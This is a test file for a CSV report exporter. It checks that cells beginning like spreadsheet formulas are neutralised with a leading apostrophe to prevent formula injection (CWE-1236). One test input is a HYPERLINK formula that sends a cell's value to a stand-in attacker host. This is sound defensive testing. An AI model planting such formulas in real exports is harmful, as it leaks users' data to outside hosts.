import { describe, expect, it } from 'vitest';
import { toCsv } from '../src/pipeline/reports.js';

/**
 * Report CSVs are opened in spreadsheets. Their cells carry text participants chose (a sender's unique
 * reference and correlation ID reach its recipients' and the operator's traces): a cell a spreadsheet would
 * read as a formula (=, +, -, @, tab, CR first) must reach it as text (CWE-1236).
 */
describe('toCsv: cells a spreadsheet would run as formulas', () => {
  const cellsOf = (csv: string) => csv.trim().split('\r\n')[1];

  it('writes a text cell that starts like a formula with a leading apostrophe, quoted where it must be', () => {
    const rows = [{ a: '=HYPERLINK("https://evil.example/?"&A1,"open")', b: '+1+2', c: '-2+3', d: '@SUM(A1)', e: '\tx', f: '\r=1' }];
    expect(cellsOf(toCsv(rows))).toBe(`"'=HYPERLINK(""https://evil.example/?""&A1,""open"")",'+1+2,'-2+3,'@SUM(A1),'\tx,"'\r=1"`);
  });

  it('leaves numbers, dates, identifiers and text with those characters further on as they are; a nested text cell is guarded too', () => {
    const rows = [{ n: -5, d: '2026-01-01T00:00:00.000Z', id: 'REF-=1', t: 'a + b', nested: { x: '=no' } }];
    expect(cellsOf(toCsv(rows))).toBe(`-5,2026-01-01T00:00:00.000Z,REF-=1,a + b,'=no`);
  });
});
